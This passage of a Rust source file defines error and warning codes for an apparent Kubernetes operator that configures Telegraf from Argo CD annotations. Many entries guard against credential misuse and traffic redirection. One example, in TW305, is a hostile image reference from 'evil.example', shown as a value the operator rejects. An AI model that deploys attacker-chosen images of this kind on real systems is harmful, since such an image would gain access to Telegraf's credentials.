        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      content_length_limit: 10MB\n",
    }
    TW216 TooManyPatterns { what: String, count: usize, max: usize } Error {
        summary: "Too many patterns.",
        message: "{what} has {count} patterns; the limit is {max}",
        help: help("combine patterns with `*`, or drop the metrics in the exporter"),
        why: "Telegraf matches each pattern with every metric, field or tag of every scrape.",
        example: "",
        instead: "",
    }
    TW217 TooManyTags { what: String, count: usize, max: usize } Error {
        summary: "Too many tags.",
        message: "{what} has {count} tags; the limit is {max}",
        help: help("keep the tags that queries need"),
        why: "Every metric contains them, and what Telegraf needs for a metric grows with the square of their number.",
        example: "",
        instead: "",
    }

    TW218 SecretNotAllowed { secret: String, why: &'static str } Error {
        summary: "The Secret may not be used for an endpoint's credentials.",
        message: "Secret `{secret}` may not be used: {why}",
        help: help("ask an administrator for a Secret that annotations may use"),
        why: "Whoever writes an annotation chooses where credentials are sent. So `allow.secrets` names the Secrets that are for \
              this, and those that hold the settings' own tokens are never among them. With `topology: standalone` the sources \
              share a Telegraf, which cannot read Secrets of their namespaces.",
        example: "telewarden.io/endpoints: |\n  - web:\n      url: https://web.argocd.svc:8443/metrics\n      bearerTokenSecret: {name: web-metrics, key: token}\n",
        instead: "telewarden.io/endpoints: |\n  - web:\n      url: https://web.argocd.svc:8443/metrics\n",
    }
    TW219 InvalidCredentials { name: &'static str, instead: &'static str } Error {
        summary: "Invalid credentials of an endpoint.",
        message: "`{name}` does not name entries of a Secret",
        help: help(format!("write `{instead}`")),
        why: "Each field names one entry of the Secret, which becomes a file of Telegraf's pod or a variable. A certificate needs its \
              key, and a user a password.",
        example: "telewarden.io/endpoints: |\n  - web:\n      url: https://web.argocd.svc:8443/metrics\n      bearerTokenSecret: token\n",
        instead: "telewarden.io/endpoints: |\n  - web:\n      url: https://web.argocd.svc:8443/metrics\n",
    }

    TW301 UnknownAnnotation { name: String, nearest: Option<String> } Warning {
        summary: "Unknown annotation of telewarden.",
        message: "unknown annotation `{name}` has no effect",
        help: did_you_mean(nearest.as_deref()),
        why: "It is probably a typing mistake.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/intervall: 30s\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/interval: 30s\n",
    }
    TW302 PodAnnotation { name: String, instead: &'static str } Error {
        summary: "The annotation is for pods of the archived telegraf-operator.",
        message: "`{name}` applies to pods only",
        help: help(instead),
        why: "telegraf-operator put a sidecar into each annotated pod and scraped that pod's ports. telewarden reads \
              complete URLs from the Application or Namespace.",
        example: "telewarden.io/port: \"9121\"\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW303 UnknownClass { class: String, known: Vec<String> } Error {
        summary: "Unknown class.",
        message: "there is no class `{class}`",
        help: help(format!("known: {}", list(&known))),
        why: "The class defines where metrics are sent.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/class: gold\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/class: default\n",
    }
    TW304 ClassNotAllowed { class: String, source: String } Error {
        summary: "The source may not choose this class.",
        message: "`{source}` may not use class `{class}`",
        help: help("choose another class, or ask the administrator to extend its `allow`"),
        why: "The setting `classes.<name>.allow` limits which sources may use a class.",
        example: "",
        instead: "",
    }
    TW305 ImageNotAllowed { image: String, allowed: Vec<String> } Error {
        summary: "The settings do not allow this image.",
        message: "the image `{image}` is not allowed",
        help: help(format!("remove the annotation; allowed: {}", list(&allowed))),
        why: "The image has access to Telegraf's credentials.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/image: evil.example/telegraf:latest\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW306 EnvNotAllowed { name: String } Error {
        summary: "The settings do not allow annotations to set environment variables.",
        message: "`{name}` is not allowed",
        help: help("remove the annotation, or ask the administrator for `allow.env`"),
        why: "An author of annotations may not be entitled to read the Secrets of the namespace.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/secret-env: database\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW307 EnvName { name: String } Error {
        summary: "Invalid name of an environment variable.",
        message: "invalid name `{name}` of an environment variable",
        help: help("use A-Z, a-z, 0-9 and `_`; do not start with a digit"),
        why: "Telegraf could not use the variable.",
        example: "",
        instead: "",
    }
    TW308 EnvReserved { name: String } Error {
        summary: "An annotation sets a reserved environment variable.",
        message: "the environment variable `{name}` is reserved",
        help: help("choose another name"),
        why: "The settings use the variable, or it controls where Telegraf connects: it could redirect traffic and tokens.",
        example: "",
        instead: "",
    }
    TW309 InvalidQuantity { name: String, text: String } Error {
        summary: "Invalid quantity.",
        message: "`{name}`: invalid quantity `{text}`",
        help: help("write it as `100m` (CPU) or `64Mi` (memory)"),
        why: "Resources are written as Kubernetes quantities \
              (<https://kubernetes.io/docs/reference/kubernetes-api/common-definitions/quantity/>).",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/limits-memory: lots\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/limits-memory: 512Mi\n",
    }
    TW310 AboveCeiling { name: String, text: String, ceiling: String } Error {
        summary: "A resource is larger than the settings allow.",
        message: "`{name}`: {text} is above {ceiling}",
        help: help(format!("write `{ceiling}` or less")),
        why: "The setting `allow.maxResources` keeps one source from using the resources of all others.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/limits-memory: 64Gi\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/limits-memory: 1Gi\n",
    }
    TW311 RequestAboveLimit { resource: &'static str, request: String, limit: String } Error {
        summary: "A resource request is larger than its limit.",
        message: "{resource}: the request {request} is above the limit {limit}",
        help: help("raise the limit, or lower the request"),
        why: "Kubernetes refuses such a pod.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/requests-memory: 512Mi\ntelewarden.io/limits-memory: 64Mi\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/requests-memory: 64Mi\ntelewarden.io/limits-memory: 512Mi\n",
    }
    TW312 AnnotationValue { name: String, text: String, expected: &'static str } Error {
        summary: "Invalid annotation value.",
        message: "`{name}` cannot be `{text}`",
        help: help(format!("write {expected}")),
        why: "Telegraf or Kubernetes would refuse the value.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/metric-version: two\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/metric-version: \"2\"\n",
    }
    TW313 NoEffectInStandalone { name: String } Error {
        summary: "An annotation needs a separate Telegraf, but all sources share one.",
        message: "`{name}` has no effect: all sources share one Telegraf",
        help: help("remove it; the settings choose `topology: standalone`"),
        why: "The class, image, resources and environment of a shared Telegraf cannot depend on one source.",
        example: "",
        instead: "",
    }
    TW314 NoEffectWithoutEndpoints { } Warning {
        summary: "Annotations have no effect without endpoints.",
        message: "the annotation has no effect: there are no endpoints",
        help: help("add the endpoints, or remove the annotation"),
        why: "The annotation with the endpoints is probably missing, or its name is mistyped.",
        example: "telewarden.io/interval: 30s\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelewarden.io/interval: 30s\n",
    }
    TW315 PolicyOnlyAnnotation { name: String } Error {
        summary: "An annotation that the policy writes is set by hand.",
        message: "only the policy may set `{name}`",
        help: help("remove the annotation"),
        why: "Readers of the annotation trust it to be what was rendered and admitted. A value that the object already had is \
              accepted, and so is the value that the policy would write.",
        example: "",
        instead: "",
    }
    TW316 EnvTwice { name: String } Error {
        summary: "An environment variable is set by two annotations.",
        message: "another annotation already sets the environment variable `{name}`",
        help: help("keep one of the two"),
        why: "A container has one value for each variable, and it would be undefined which of the two is used.",
        example: "",
        instead: "",
    }
    TW317 BothNames { name: String, other: String } Error {
        summary: "The annotation is there under both of its names.",
        message: "`{name}` and `{other}` are the same annotation",
        help: help(format!("remove `{name}`")),
        why: "Annotations under `telewarden.io/` and `telegraf.influxdata.com/` mean the same, and it would be undefined which of \
              the two is used.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n\
                  telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }

    TW401 NoNamespace { what: &'static str } Error {
        summary: "The Application has no destination namespace.",
        message: "{what}",
        help: help("set it: Telegraf runs in that namespace; a patch is checked in what `kustomize build` makes of it"),
        why: "Telegraf runs in that namespace, and by default only services of that namespace are scraped.",
        example: "",
        instead: "",
    }
    TW402 InvalidNamespace { name: String } Error {
        summary: "Invalid namespace name.",
        message: "invalid namespace name `{name}`",
        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`; start and end with a letter or digit"),
        why: "The name becomes part of the allowed hosts, so it must be a single DNS label \
              (<https://kubernetes.io/docs/concepts/overview/working-with-objects/names/#dns-label-names>).",
        example: "",
        instead: "",
    }
    TW403 Unreadable { what: &'static str, error: String } Error {
        summary: "The object cannot be decoded.",
        message: "{what} cannot be read: {error}",
        help: None,
        why: "The object does not have the structure that Kubernetes or Argo CD defines.",
        example: "",
        instead: "",
    }
    TW404 ForeignNamespace { namespace: String, allowed: Vec<String> } Warning {
        summary: "The settings exclude the Application's namespace.",
        message: "Applications in namespace `{namespace}` are not served",
        help: help(format!("served: {} (`sources.applicationNamespaces`)", list(&allowed))),
        why: "A user who can create Applications in one namespace may not be entitled to deploy a Telegraf into another.",
        example: "",
        instead: "",
    }
    TW405 OtherCluster { cluster: String } Warning {
        summary: "The Application is deployed to another cluster.",
        message: "the destination is another cluster, `{cluster}`",
        help: help("annotate the Namespace there and run an operator there: `spec.syncPolicy.managedNamespaceMetadata` can set the annotation"),
        why: "An operator deploys only to its own cluster: the server `https://kubernetes.default.svc`, or the name `in-cluster`. \
              It sees the Namespaces of its cluster, so an annotated Namespace is served there \
              (<https://argo-cd.readthedocs.io/en/stable/user-guide/sync-options/#namespace-metadata>).",
        example: "",
        instead: "",
    }
    TW406 ConfigurationTooLarge { size: usize, limit: usize } Error {
        summary: "The rendered configuration does not fit into a ConfigMap.",
        message: "the configuration is {size} bytes long; there is room for {limit}",
        help: help("remove endpoints; in `standalone`, set `standalone.shards: auto` or a higher number, or use another topology"),
        why: "Kubernetes limits a ConfigMap to 1 MiB \
              (<https://kubernetes.io/docs/concepts/configuration/configmap/#motivation>). In `standalone` sources share a ConfigMap \
              or a few: one source may take an eighth of one, and one tenant a quarter of one in all of them together, so that \
              there is room for the others.",
        example: "",
        instead: "",
    }
    TW407 UncheckedPlaceholder { } Warning {
        summary: "An annotation with placeholders cannot be checked yet.",
        message: "placeholders are checked when the ApplicationSet creates Applications",
        help: None,
        why: "Only the ApplicationSet controller knows the value of `{{ }}`.",
        example: "",
        instead: "",
    }
    TW408 ProjectRefuses { project: String, why: String } Error {
        summary: "The Application's AppProject does not permit the deployment.",
        message: "project `{project}` {why}",
        help: help("change the project, or choose another"),
        why: "Argo CD would not deploy there for this Application, so telewarden does not either \
              (<https://argo-cd.readthedocs.io/en/stable/user-guide/projects/>).",
        example: "",
        instead: "",
    }
    TW409 Protocol { found: u32, known: u32 } Error {
        summary: "Host and module have different protocol versions.",
        message: "the request has protocol version {found}; this module supports {known}",
        help: help("use a host and a module of the same release"),
        why: "Another version of the module could misinterpret the request.",
        example: "",
        instead: "",
    }

    TW410 DuplicateSource { source: String } Warning {
        summary: "Duplicate object.",
        message: "`{source}` is given twice; only the first is used",
        help: help("remove one of the two"),
        why: "Both would render objects with the same names. In a folder of manifests, the second is often a copy.",
        example: "",
        instead: "",
    }

    TW411 OutputAddress { source: String, address: String } Error {
        summary: "The source's name changes the address of an output.",
        message: "the names of `{source}` would change an output's address to `{address}`",
        help: help("rename it, or ask the administrator for outputs without this name"),
        why: "The settings insert the name into an output's URL. A dot in the name would change the host, and metrics and \
              token would be sent to that host.",
        example: "",
        instead: "",
    }
    TW412 InClusterDisabled { } Error {
        summary: "Argo CD does not deploy to its own cluster.",
        message: "Argo CD deploys nothing to this cluster: `cluster.inClusterEnabled` is false in `argocd-cm`",
        help: help("choose another destination, or set `cluster.inClusterEnabled` to true"),
        why: "Argo CD would not deploy there for this Application, so telewarden does not either \
              (<https://argo-cd.readthedocs.io/en/stable/operator-manual/argocd-cm-yaml/>).",
        example: "",
        instead: "",
    }
    TW413 NoCluster { } Warning {
        summary: "The destination names no cluster.",
        message: "the destination names no cluster, and Argo CD deploys nothing without one",
        help: help("set `server: https://kubernetes.default.svc`, or `name: in-cluster`"),
        why: "An Application needs `destination.server` or `destination.name`: Argo CD reports an `InvalidSpecError` without, and \
              the operator renders nothing for it \
              (<https://argo-cd.readthedocs.io/en/stable/operator-manual/declarative-setup/#applications>).",
        example: "",
        instead: "",
    }

    TW414 ClusterTwice { } Warning {
        summary: "The destination names a cluster by name and by server.",
        message: "the destination has a `name` and a `server`, and Argo CD takes only one of them",
        help: help("remove one of the two"),
        why: "Argo CD reports an `InvalidSpecError`, and the operator renders nothing for it.",
        example: "",
        instead: "",
    }

    TW415 OrphanedResources { project: String, ignore: String } Warning {
        summary: "Argo CD counts what is rendered as orphaned.",
        message: "project `{project}` warns of orphaned resources, and what is rendered is among them",
        help: help(format!("add to its `spec.orphanedResources.ignore`: {ignore}")),
        why: "With `orphanedResources: {warn: true}` Argo CD warns of every object in the namespace that belongs to no Application \
              and has no owner (<https://argo-cd.readthedocs.io/en/stable/user-guide/orphaned-resources/>). What is rendered belongs \
              to none, so that Argo CD does not prune it.",
        example: "",
        instead: "",
    }

    TW501 Settings { error: String, nearest: Option<&'static str> } Error {
        summary: "Settings do not match the schema.",
        message: "{error}",
        help: did_you_mean(nearest).or_else(|| help("`telewarden schema settings` prints what is allowed")),
        why: "An unknown key is usually a mistake, so it is refused and not ignored.",
        example: "topologie: standalone\n",
        instead: "topology: standalone\n",
    }
    TW502 NoOutput { class: String } Error {
        summary: "A class has no output.",
        message: "class `{class}` has no output",
        help: help("add one, such as `influxdb_v2: [{{urls: [\"http://influxdb.influxdb.svc:8086\"], …}}]`".replace("{{", "{").replace("}}", "}")),
        why: "Telegraf does not start without an output.",
        example: "classes: {default: {outputs: {}}}\n",
        instead: "classes: {default: {outputs: {file: [{files: [stdout]}]}}}\npod: {env: []}\n",
    }
    TW503 UnknownDefaultClass { class: String, known: Vec<String> } Error {
        summary: "The default class does not exist.",
        message: "there is no class `{class}`",
        help: help(format!("known: {}", list(&known))),
        why: "Every source without a `class` annotation uses it.",
        example: "defaultClass: gold\n",
        instead: "defaultClass: default\n",
    }
    TW504 Pattern { pattern: String, why: &'static str } Error {
        summary: "A pattern can never match.",
        message: "`{pattern}` {why}",
        help: help("`*` stands for one or more whole labels: `*.{namespace}.svc`".to_owned()),
        why: "A pattern that matches nothing refuses every endpoint. A pattern that is misunderstood could allow any.",
        example: "endpoints: {hosts: [\"*argocd.svc\"]}\n",
        instead: "endpoints: {hosts: [\"*.argocd.svc\"]}\n",
    }
    TW505 Placeholder { name: String, known: &'static str } Error {
        summary: "Unknown placeholder.",
        message: "unknown placeholder `{{{name}}}`",
        help: help(format!("known: {known}; write a literal brace as `{{{{`")),
        why: "An unknown placeholder would be left in the text.",
        example: "inputs: {tags: {prometheus_app: \"{app}\"}}\n",
        instead: "inputs: {tags: {prometheus_app: \"{bucket}\"}}\n",
    }
    TW506 TelegrafValue { why: &'static str } Error {
        summary: "Unsupported value for Telegraf's configuration.",
        message: "{why}",
        help: help("use text, numbers, booleans, lists of one type, and maps with bare keys (A-Z, a-z, 0-9, `_`, `-`)"),
        why: "Telegraf's TOML parser is older than TOML 1.0: no null, no list of mixed types, bare keys only.",
        example: "classes: {default: {globalTags: {cluster: null}}}\n",
        instead: "classes: {default: {globalTags: {cluster: data}}}\n",
    }
    TW507 AnnotationKey { key: String } Error {
        summary: "Invalid annotation name.",
        message: "invalid annotation name `{key}`",
        help: help("write `prefix.example.com/name` or `name`; names have at most 63 characters"),
        why: "Kubernetes does not accept such annotations, so it would never be found \
              (<https://kubernetes.io/docs/concepts/overview/working-with-objects/annotations/#syntax-and-character-set>).",
        example: "annotation: \"telegraf endpoints\"\n",
        instead: "annotation: example.com/telegraf-endpoints\n",
    }
    TW508 OwnPlugin { plugin: String } Error {
        summary: "The settings configure a plugin that telewarden renders itself.",
        message: "`{plugin}` is rendered by telewarden itself",
        help: help("remove it"),
        why: "The liveness probe uses the rendered `outputs.health`.",
        example: "classes: {default: {outputs: {health: [{service_address: \"http://:1\"}]}}}\n",
        instead: "",
    }
    TW509 ExtraResource { why: String } Error {
        summary: "An extra resource cannot be rendered.",
        message: "{why}",
        help: help("set `apiVersion`, `kind` and `metadata.name`, but not `metadata.namespace` or Argo CD's tracking labels or annotations"),
        why: "Extra resources are namespaced objects, one for each source, in the source's namespace.",
        example: "extraResources: [{kind: Secret}]\n",
        instead: "extraResources: [{apiVersion: v1, kind: Secret, metadata: {name: \"{application}-token\"}}]\n",
    }
    TW510 Routing { why: &'static str } Error {
        summary: "In `standalone`, metrics cannot be routed by source.",
        message: "{why}",
        help: help("remove `tagpass`, or use `tagdrop`"),
        why: "All sources share one Telegraf, and an output selects the metrics of one source by a tag. A metric passes if it \
              matches any tag of `tagpass`, so a second tag would let metrics of other sources pass \
              (<https://docs.influxdata.com/telegraf/v1/configuration/#metric-filtering>).",
        example: "topology: standalone\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{bucket}\", token: t, tagpass: {tier: [web]}}]}}}\n",
        instead: "topology: standalone\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{bucket}\", token: \"${INFLUX_TOKEN}\", tagdrop: {tier: [web]}}]}}}\n",
    }
    TW511 DnsLabel { text: String, what: &'static str } Error {
        summary: "A name in the settings is not a DNS label.",
        message: "`{text}` cannot be {what}",
        help: help("use 1 to 63 of the characters a-z, 0-9 and `-`; start and end with a letter or digit"),
        why: "Kubernetes would refuse every object with this name.",
        example: "instance: \"my operator\"\n",
        instead: "instance: my-operator\n",
    }
    TW512 Image { image: String, why: &'static str } Error {
        summary: "Unsupported image.",
        message: "the image `{image}` {why}",
        help: help("write it with a tag or a digest, version 1.38 or later: `docker.io/library/telegraf:1.40-alpine`"),
        why: "The rendered configuration and command line need Telegraf 1.38 or later.",
        example: "pod: {image: \"docker.io/library/telegraf:1.30\"}\n",
        instead: "pod: {image: \"docker.io/library/telegraf:1.40\"}\n",
    }
    TW513 OpenEgress { class: String } Warning {
        summary: "The NetworkPolicy cannot restrict an output's connections.",
        message: "the NetworkPolicy allows all destinations for class `{class}`: an output's address is unknown",
        help: help("write the output's URL without a variable"),
        why: "The NetworkPolicy is rendered from the outputs' URLs, and the value of a variable is known only in the pod.",
        example: "networkPolicy: true\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"${INFLUX_URL}\"], token: t, organization: o, bucket: b}]}}}\n",
        instead: "networkPolicy: true\n",
    }
    TW514 ReservedName { name: String, what: &'static str } Error {
        summary: "The settings set a reserved label or annotation.",
        message: "`{name}` cannot be {what}",
        help: help("remove it"),
        why: "Argo CD treats an object with its tracking label or annotation as part of an application, and prunes it \
              (<https://argo-cd.readthedocs.io/en/stable/user-guide/resource_tracking/>); telewarden finds its own objects by \
              its labels.",
        example: "pod: {labels: {\"app.kubernetes.io/instance\": argocd}}\n",
        instead: "pod: {labels: {team: square}}\n",
    }
    TW515 MutationInStandalone { } Error {
        summary: "`mutation: resources` is set with `topology: standalone`.",
        message: "`mutation: resources` cannot be used with `topology: standalone`",
        help: help("use `mutation: digest` or `mutation: none`, or another topology"),
        why: "In `standalone` all sources share one Telegraf, so there are no objects to write into a single source.",
        example: "topology: standalone\nmutation: resources\n",
        instead: "topology: standalone\nmutation: digest\n",
    }
    TW516 Provide { why: &'static str } Error {
        summary: "The operator cannot provide the bucket or the token of an output.",
        message: "`influxdb.provide` is set, but {why}",
        help: help("change it, or set `influxdb.provide` to `nothing` and make buckets and tokens in another way"),
        why: "The operator sends an administrator's token to the output's URL, so no source may change it. It gives a token \
              to a source for its own bucket only, so two sources may not have the same one.",
        example: "influxdb: {provide: bucketsAndTokens}\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{application}\", token: \"${INFLUX_TOKEN}\"}]}}}\n",
        instead: "influxdb: {provide: bucketsAndTokens}\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], organization: o, bucket: \"{bucket}\", token: \"${INFLUX_TOKEN}\"}]}}}\n",
    }
    #[cfg(feature = "files")]
    TW517 NamespaceFromName { pattern: String } Warning {
        summary: "A host pattern takes the namespace from the source's name.",
        message: "whoever names an Application chooses the namespace that `{pattern}` matches",
        help: help("write `{namespace}` for the namespace"),
        why: "An Application called `kube-system` could scrape the services of the namespace `kube-system`. A source's \
              destination, `{namespace}`, is bound by its AppProject; its name is not.",
        example: "endpoints: {hosts: [\"*.{application}.svc\"]}\n",
        instead: "endpoints: {hosts: [\"*.{namespace}.svc\"]}\n",
    }
    #[cfg(feature = "files")]
    TW518 SharedExtraResource { name: String } Warning {
        summary: "An extra resource has the same name for all Applications of a namespace.",
        message: "all Applications of a namespace render an extra resource `{name}`, and only the first one gets it",
        help: help(format!("use the Application's name: `{name}-{{application}}`")),
        why: "The operator leaves objects alone that belong to another source, so the second Application gets a Warning Event.",
        example: "extraResources: [{apiVersion: v1, kind: Secret, metadata: {name: token}}]\n",
        instead: "extraResources: [{apiVersion: v1, kind: Secret, metadata: {name: \"token-{application}\"}}]\n",
    }

    #[cfg(feature = "plugins")]
    TW521 UnknownPlugin { path: String, nearest: Option<String> } Error {
        summary: "Unknown Telegraf plugin.",
        message: "`{path}` is not a plugin of Telegraf",
        help: did_you_mean(nearest.as_deref()).or_else(|| help("name a plugin of your own build in `pod.ownPlugins`")),
        why: "Telegraf ends at once: \"undefined but requested output\". All plugins of Telegraf 1.38 and later are known; what an \
              own build adds is named in `pod.ownPlugins`.",
        example: "classes: {default: {outputs: {influxdb2: [{urls: [\"http://influxdb.influxdb.svc:8086\"]}]}}}\n",
        instead: "classes: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], token: \"${INFLUX_TOKEN}\"}]}}}\n",
    }
    #[cfg(feature = "plugins")]
    TW522 UnknownPluginOption { path: String, nearest: Option<String> } Error {
        summary: "Unknown option of a Telegraf plugin or of its agent.",
        message: "`{path}` is not an option of Telegraf",
        help: did_you_mean(nearest.as_deref()).or_else(|| help("remove it, or choose the plugin or `data_format` that has it")),
        why: "Telegraf ends at once: \"configuration specified the fields …, but they were not used\". Options are written as in \
              its documentation. What `data_format` brings counts too.",
        example: "classes: {default: {agent: {flush_intervall: 30s}}}\n",
        instead: "classes: {default: {agent: {flush_interval: 30s}}}\n",
    }
    #[cfg(feature = "files")]
    TW523 OptionType { path: String, found: String, expected: String, instead: Option<String>, nearest: Option<String> } Error {
        summary: "Wrong type for an option of Telegraf.",
        message: "`{path}` is {found}, but must be {expected}",
        help: did_you_mean(nearest.as_deref()).or_else(|| help(format!("write `{}`", instead?))),
        why: "Telegraf ends at once: its options have types, and it converts nothing. A whole number is no number with a decimal \
              point, and a variable in a text stays a text.",
        example: "classes: {default: {outputs: {influxdb_v2: [{urls: \"http://influxdb.influxdb.svc:8086\"}]}}}\n",
        instead: "classes: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], token: \"${INFLUX_TOKEN}\"}]}}}\n",
    }
    #[cfg(feature = "files")]
    TW524 Deprecated { what: String, since: String, removal: String, notice: Option<String> } Warning {
        summary: "Deprecated plugin or option of Telegraf.",
        message: "{what} is deprecated since Telegraf {since}{removal}",
        help: notice,
        why: "A later version of Telegraf does not know it, and ends at once. The version is the one of `pod.image`.",
        example: "classes: {default: {outputs: {influxdb: [{urls: [\"http://influxdb.influxdb.svc:8086\"], namepass: [a], fieldpass: [b]}]}}}\n",
        instead: "classes: {default: {outputs: {influxdb: [{urls: [\"http://influxdb.influxdb.svc:8086\"], namepass: [a], fieldinclude: [b]}]}}}\npod: {env: []}\n",
    }
    #[cfg(feature = "files")]
    TW525 NotYet { what: String, since: String, version: String } Warning {
        summary: "Plugin or option that the pods' Telegraf does not have yet.",
        message: "{what} needs Telegraf {since}, and `pod.image` is {version}",
        help: help(format!("remove it, or use an image with {since} or later")),
        why: "A version of Telegraf that does not know it ends at once. The version is the one in the tag of `pod.image`.",
        example: "pod: {image: \"telegraf:1.38\"}\nclasses: {default: {outputs: {kafka: [{brokers: [\"kafka.kafka.svc:9092\"], topic: metrics, headers: {team: ops}}]}}}\n",
        instead: "pod: {image: \"telegraf:1.40\", env: []}\nclasses: {default: {outputs: {kafka: [{brokers: [\"kafka.kafka.svc:9092\"], topic: metrics, headers: {team: ops}}]}}}\n",
    }
    #[cfg(feature = "files")]
    TW526 Removed { what: String, version: String, notice: Option<String> } Error {
        summary: "Plugin or option that was removed from Telegraf.",
        message: "{what} was removed from Telegraf{version}",
        help: notice.or_else(|| help("remove it")),
        why: "Telegraf ends at once. The version is the one in the tag of `pod.image`; without a version it is the newest that is known.",
        example: "classes: {default: {outputs: {riemann_legacy: [{}]}}}\n",
        instead: "classes: {default: {outputs: {riemann: [{}]}}}\npod: {env: []}\n",
    }
    #[cfg(feature = "files")]
    TW527 ClearText { path: String, variable: String } Warning {
        summary: "A password or token is written in clear text.",
        message: "`{path}` is in clear text, and becomes part of a ConfigMap",
        help: help(format!("write `${{{variable}}}`, and set the variable in `pod.env` from a Secret")),
        why: "Whoever can read ConfigMaps can read it. So can whoever can read the settings.",
        example: "classes: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], token: abcd}]}}}\n",
        instead: "classes: {default: {outputs: {influxdb_v2: [{urls: [\"http://influxdb.influxdb.svc:8086\"], token: \"${INFLUX_TOKEN}\"}]}}}\n",
    }
    #[cfg(feature = "files")]
    TW528 UnsetVariable { name: String, nearest: Option<String> } Warning {
        summary: "A variable is used that no pod has.",
        message: "nothing sets the variable `{name}`",
        help: did_you_mean(nearest.as_deref()).or_else(|| help("add it to `pod.env`")),
        why: "Telegraf leaves the name of a variable that is not set in the text, and the output fails \
              (<https://docs.influxdata.com/telegraf/v1/configuration/#environment-variables>). A default value is written \
              `${NAME:-value}`.",
        example: "classes: {default: {outputs: {influxdb_v2: [{urls: [\"${INFLUX_URL}\"], token: \"${INFLUX_TOKEN}\"}]}}}\n",
        instead: "pod: {env: [{name: INFLUX_URL, value: \"http://influxdb.influxdb.svc:8086\"}, {name: INFLUX_TOKEN, valueFrom: {secretKeyRef: {name: telegraf, key: influx-token}}}]}\nclasses: {default: {outputs: {influxdb_v2: [{urls: [\"${INFLUX_URL}\"], token: \"${INFLUX_TOKEN}\"}]}}}\n",
    }
    #[cfg(feature = "files")]
    TW529 UnusedToken { variable: String, secret: String } Warning {
        summary: "The default variable `INFLUX_TOKEN` is not used.",
        message: "no class uses `{variable}`, but no pod starts without the Secret `{secret}`",
        help: help("write `pod: {env: []}`, or the variables that the outputs use"),
        why: "`pod.env` has a default: the variable `INFLUX_TOKEN`, from a Secret. Without that Secret the container waits with \
              `CreateContainerConfigError`.",
        example: "classes: {default: {outputs: {file: [{files: [stdout]}]}}}\n",
        instead: "classes: {default: {outputs: {file: [{files: [stdout]}]}}}\npod: {env: []}\n",
    }

    #[cfg(feature = "files")]
    TW601 BrokenFile { error: String } Error {
        summary: "A file cannot be read.",
        message: "{error}",
        help: None,
        why: "A file that is not YAML or JSON may hold an Application, and nothing in it is checked. `--allow-unparsable` passes \
              over such files of a folder. Templates, such as Helm's, are passed over and counted; `-v` names them.",
        example: "",
        instead: "",
    }
    #[cfg(feature = "files")]
    TW602 Misplaced { name: String, what: String, instead: String } Warning {
        summary: "An annotation is written where nobody reads it.",
        message: "`{name}` {what}",
        help: help(instead),
        why: "Only the annotations of an Argo CD Application (`argoproj.io/v1alpha1`), of a Namespace, and of the template of \
              an ApplicationSet are read. On another object, as a label or under a similar name, the annotation has no effect. \
              What Kustomize or Helm makes of a file is checked in their output.",
        example: "",
        instead: "",
    }
    #[cfg(feature = "application-sets")]
    TW603 NotExpanded { why: String } Warning {
        summary: "The Applications of an ApplicationSet are not all known.",
        message: "not all Applications can be checked here: {why}",
        help: help("they are checked when the ApplicationSet controller creates them"),
        why: "`list` generators, and `matrix` and `merge` generators of lists, are expanded, and each Application is checked. \
              Other generators, selectors, functions and patches need the ApplicationSet controller.",
        example: "",
        instead: "",
    }
    #[cfg(feature = "application-sets")]
    TW604 UnknownParameter { error: String, instead: String } Error {
        summary: "A placeholder cannot be filled.",
        message: "{error}",
        help: help(instead),
        why: "The ApplicationSet controller would leave the placeholder as it is, write `<no value>`, or make no Application \
              at all (<https://argo-cd.readthedocs.io/en/stable/operator-manual/applicationset/GoTemplate/>).",
